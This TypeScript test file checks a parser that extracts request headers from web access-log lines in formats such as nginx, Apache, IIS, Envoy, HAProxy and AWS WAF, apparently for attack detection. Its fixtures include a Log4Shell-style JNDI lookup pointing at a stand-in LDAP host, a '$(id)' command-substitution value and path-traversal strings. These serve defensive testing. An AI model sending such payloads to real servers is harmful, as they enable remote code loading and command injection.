import { describe, expect, it } from 'vitest';
import { createLineParser } from './line-parser.ts';
import { isOtherHeader, isPlainRest, textsBehind } from './other-headers.ts';

describe('what stands behind the agent', () => {
  it.each([
    '"203.0.113.7, 10.0.0.1"',
    '"-" 0.004 "2001:db8::1"',
    '324 0.004 [shop-web-80] [] 10.0.0.7:8080 512 0.004 200 9b1c2d',
    '17 "web@docker" "http://10.0.0.7:8080" 5ms',
    'rt=0.004 uct="0.001" uht="0.002, 0.003"',
  ])('is plain in %s', (rest) => {
    expect(isPlainRest(Buffer.from(rest), 0, rest.length)).toBe(true);
    expect(textsBehind(rest)).toBeUndefined();
  });

  it.each([
    [String.raw`"a \x22b\x22 c" 0.1 "d;e"`, ['a "b" c', 'd;e']],
    ['"_ga=1; consent={}; n=<b>" "for=10.0.0.1;proto=http"', ['consent={}', 'n=<b>']],
    ['"1.1.1.1, $(id)', ['1.1.1.1, $(id)']],
    ['"a or b" "a or b"', ['a or b']],
    ['"../../b" "a../b" "a/..b" "/a/b"', ['../../b', 'a../b']],
  ])('is taken apart in %s', (rest, texts) => expect(textsBehind(rest)).toEqual(texts));

  it('is one text where there are many, so that no number of them hides one', () => {
    const texts = textsBehind(Array.from({ length: 160 }, (_, index) => `"<${index}>"`).join(' '))!;
    expect([texts.length, texts.at(-1)!.endsWith('<158> <159>')]).toEqual([64, true]);
  });

  it('is taken apart in time that grows with its length', () => {
    const text = '"' + String.raw`\"`.repeat(200_000) + '\\';
    expect(textsBehind(text)).toHaveLength(1);
    const many = Array.from({ length: 100_000 }, (_, index) => `<${index}`).join(' ');
    expect(textsBehind(many)).toHaveLength(64);
  });
});

it('reads no header that holds secrets or repeats what is read anyway', () => {
  const names = [
    'Cookie',
    'Authorization',
    'X-Api-Key',
    'X-CSRF-Token',
    'User-Agent',
    'user_agent',
    'X-Original-URL',
    'request',
    'Host',
  ];
  expect(names.filter(isOtherHeader)).toEqual([]);
  expect(['X-Forwarded-For', 'x_real_ip', 'X-Api-Version', 'Accept'].every(isOtherHeader)).toBe(true);
});

const TEXT = '${jndi:ldap://a.example/b}';
it.each([
  [
    'IIS',
    `#Fields: date time cs-method cs-uri-stem c-ip sc-status cs(X-Real-IP)`,
    `2021-12-10 13:13:51 GET / 10.0.0.1 200 ${TEXT}`,
  ],
  [
    'Envoy',
    'envoy',
    `[2021-12-10T13:13:51.000Z] "GET / HTTP/1.1" 200 - 0 12 3 2 "${TEXT}" "curl/8" "id" "h" "10.0.0.1:80"`,
  ],
  [
    'HAProxy',
    'haproxy',
    `10.0.0.1:5 [10/Dec/2021:13:13:51.123] fe be/s 0/0/1/2/3 200 12 - - ---- 1/1/0/0/0 0/0 {h.example|https://r.example/|curl/8|${TEXT.replace('{', '#7B').replace('}', '#7D')}} "GET / HTTP/1.1"`,
  ],
  [
    'logfmt',
    undefined,
    `time=2021-12-10T13:13:51Z method=GET path=/ status=200 remote_ip=10.0.0.1 x_forwarded_for="${TEXT}"`,
  ],
  [
    'AWS WAF',
    undefined,
    JSON.stringify({
      timestamp: 1639142031000,
      httpRequest: {
        clientIp: '10.0.0.1',
        uri: '/',
        httpMethod: 'GET',
        headers: [
          { name: 'X-Forwarded-For', value: TEXT },
          { name: 'Cookie', value: '<' },
        ],
      },
    }),
  ],
])('finds a header in a line of %s', (_writer, format, line) => {
  const parsed = createLineParser(format).parse(line);
  expect(parsed).toMatchObject({ ok: true, request: { headers: [TEXT] } });
});

it.each([
  [
    'nginx',
    '$remote_addr [$time_iso8601] "$request" $status "$http_next_action" "$http_x_trace"',
    '10.0.0.1 [2021-12-10T13:13:51Z] "POST / HTTP/1.1" 200 "VALUE" "a1"',
  ],
  [
    'nginx, as JSON',
    '{"t":"$time_iso8601","a":"$remote_addr","r":"$request","s":"$status","n":"$http_next_action","x":"$http_x_trace"}',
    '{"t":"2021-12-10T13:13:51Z","a":"10.0.0.1","r":"POST / HTTP/1.1","s":"200","n":"VALUE","x":"a1"}',
  ],
  [
    'Apache',
    '%h %t "%r" %>s "%{Next-Action}i" "%{X-Trace}i"',
    '10.0.0.1 [10/Dec/2021:13:13:51 +0000] "POST / HTTP/1.1" 200 "VALUE" "a1"',
  ],
  [
    'Apache, as JSON',
    '{"t":"%{%FT%TZ}t","a":"%a","r":"%r","s":"%>s","n":"%{Next-Action}i","x":"%{X-Trace}i"}',
    '{"t":"2021-12-10T13:13:51Z","a":"10.0.0.1","r":"POST / HTTP/1.1","s":"200","n":"VALUE","x":"a1"}',
  ],
  [
    'the W3C',
    '#Fields: date time cs-method cs-uri-stem c-ip sc-status cs(Next-Action) cs(X-Trace)',
    '2021-12-10 13:13:51 POST / 10.0.0.1 200 VALUE a1',
  ],
])(
  'knows the name of a header that a format of %s tells, where that tells more than its text',
  (_writer, format, line) => {
    const parser = createLineParser(format);
    const headersOf = (value: string): unknown => {
      const parsed = parser.parse(line.replace('VALUE', value));
      return parsed.ok ? parsed.request.headers : parsed.reason;
    };
    expect(['x', '-', '0123456789abcdef'.repeat(2)].map(headersOf)).toEqual([['next-action: x'], undefined, undefined]);
  },
);
